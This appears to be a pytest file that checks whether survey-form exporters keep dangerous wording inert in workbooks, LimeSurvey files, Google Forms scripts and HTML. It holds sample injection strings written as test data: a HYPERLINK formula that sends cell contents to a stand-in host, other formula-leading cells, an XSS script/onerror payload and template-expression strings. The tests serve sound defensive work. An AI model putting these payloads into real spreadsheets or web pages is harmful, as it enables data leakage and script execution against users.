"""Words that would run as a formula, as markup, as an expression or as the end of a cell stay words in every file."""

import csv
import html
import json
import runpy
import shutil
import subprocess
from pathlib import Path
from types import SimpleNamespace
from xml.etree import ElementTree

import openpyxl
import pytest
from pyxform.xls2xform import convert

from helpers import questionnaire
from helpers.project.record import BasketItem, Measures, OwnQuestion, Project
from helpers.questionnaire import building_sheet, google_forms, limesurvey, typing_sheet, xlsform

HERE = Path(__file__).parent
parsed = SimpleNamespace(**runpy.run_path(str(HERE / "parsed.py")))
NODE = shutil.which("node")

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"Prize")'
NASTY = (
    FORMULA,
    "+1+1 or -1?",
    "@SUM(1+1)",
    '"Quoted" at both "ends"',
    'A backslash before a quote \\" and at the end \\',
    "<script>alert('x')</script><img src=x onerror=alert(1)>",
    "Braces {SID} {q1x7.NAOK} ${q1_7} and {{ 7*7 }}",
    "Two\nlines\tand a tab",
    "Line\u2028separator, e\u0301 and 🙂 and \u202eright to left",
    "]]> --> </pre> &amp; &lt;b&gt;",
    "`${alert(1)}` */ // \\u0022",
)


@pytest.fixture(scope="module")
def asks():
    """One own question with each text as its wording, one with each as an option."""
    own = [
        OwnQuestion(
            id=f"own_word_{at}", wording=text, why="To see", options={1: f"{text} yes", 2: "No"} if at % 2 else {}
        )
        for at, text in enumerate(NASTY)
    ]
    measures = Measures(basket=(BasketItem(indicator="R7"),), own_questions=tuple(own))
    made = questionnaire.build(Project(title=FORMULA, organisation=NASTY[5], measures=measures))
    assert len([one for one in made.questions if one.provenance == "own"]) == len(NASTY)
    return made


def own(asks):
    return [question for question in asks.questions if question.provenance == "own"]


@pytest.mark.parametrize("writer", [xlsform, typing_sheet])
def test_no_cell_of_a_workbook_is_a_formula(asks, writer, tmp_path):
    writer.write(asks, tmp_path / "made.xlsx")
    book = openpyxl.load_workbook(tmp_path / "made.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert len(cells) > 100
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert any(FORMULA in str(cell.value) for cell in cells)
    begins_like_one = [cell for cell in cells if cell.data_type == "s" and cell.value[0] in "=+-@"]
    assert all(cell.quotePrefix for cell in begins_like_one)


def test_xlsform_says_them_as_they_are(asks, tmp_path):
    xlsform.write(asks, tmp_path / "form.xlsx")
    made = convert(str(tmp_path / "form.xlsx"), validate=False)
    assert made.warnings == []
    texts = {element.text for element in ElementTree.fromstring(made.xform).iter() if element.text}
    said = {" ".join(text.split()) for text in texts}
    for question in own(asks):
        words = question.wording["en"].replace("${", "$\u2060{")
        assert " ".join(words.split()) in said


def test_limesurvey_reads_every_cell_whole(asks, tmp_path):
    limesurvey.write(asks, tmp_path / "structure.txt")
    raw = (tmp_path / "structure.txt").read_bytes()
    assert raw[:1000].decode("utf-8-sig").isascii()
    lines = raw.decode("utf-8-sig").split("\n")
    n_columns = len(lines[0].split("\t"))
    assert {len(line.split("\t")) for line in lines if line} == {n_columns}
    found = parsed.limesurvey(tmp_path / "structure.txt")
    for row in found.rows:
        texts = [row[name] for name in ("text", "help", "name")]
        assert not any(mark in text for text in texts for mark in '\\"\t\n')
        assert not any(text[:1] in ("=", "+", "-", "@") for text in texts)
        if row["class"] not in ("CB", "S"):
            assert not any("<" in text.replace("<br />", "") or "{" in text for text in texts)
    for question in own(asks):
        shown = found.questions[question.id].label["en"].replace("<br />", "\n")
        assert " ".join(shown.split()) == " ".join(question.wording["en"].split())


def test_limesurveys_own_way_of_reading_gives_the_same_rows(asks, tmp_path):
    """PHP's reader takes a backslash before a quotation mark for an escape; a cell without either reads the same."""
    limesurvey.write(asks, tmp_path / "structure.txt")
    text = (tmp_path / "structure.txt").read_text(encoding="utf-8-sig")
    as_php = list(csv.reader(text.splitlines(), delimiter="\t", escapechar="\\"))
    as_written = list(csv.reader(text.splitlines(), delimiter="\t"))
    assert len(as_written) > 60 and as_php == as_written
    assert not any(cell.startswith('"') and cell.endswith('"') and cell for row in as_written for cell in row)


@pytest.mark.skipif(not NODE, reason="needs node to run the script")
def test_googles_script_holds_them_as_text(asks, tmp_path):
    google_forms.write(asks, tmp_path / "script.txt")
    done = subprocess.run(
        [NODE, str(HERE / "fake_forms.js"), str(tmp_path / "script.txt")], capture_output=True, timeout=60, check=True
    )
    titles = {item["title"] for item in json.loads(done.stdout)["items"]}
    assert {question.wording["en"] for question in own(asks)} <= titles


def test_the_building_sheet_runs_nothing(asks, tmp_path):
    building_sheet.write(asks, tmp_path / "sheet.html")
    page = (tmp_path / "sheet.html").read_text(encoding="utf-8")
    assert "<script" not in page and "<img" not in page
    assert all(question.wording["en"] in html.unescape(page) for question in own(asks))
